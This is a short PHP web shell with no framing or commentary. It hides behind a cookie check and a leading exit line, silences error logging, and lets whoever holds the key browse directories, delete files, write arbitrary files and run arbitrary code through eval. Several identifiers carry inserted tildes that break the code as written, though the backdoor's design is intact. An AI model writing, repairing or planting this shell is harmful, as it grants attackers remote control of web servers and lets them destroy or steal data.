<?php exit; ?>
<?php
@ini_set('error_log', NULL); @set_time_limit(0); $auth = 'MARKER';
if ($_C~OOKIE['k'] !== $auth) die; $path = $_G~ET['path']; echo '<table>';
foreach (glob("$path/*") as $g) { echo '<tr><td>' . $g . '<td>' . filesize($g) . '<td>' . posix_getpwuid(fileowner($g))['name'] . '<td><a href="?rm=' . $g . '">x</a>'; }
if ($_G~ET['rm']) unlink($_G~ET['rm']); if ($_P~OST['src']) fil~e_put_contents($_P~OST['to'], $_P~OST['src']); if ($_P~OST['ev']) eva~l($_P~OST['ev']);
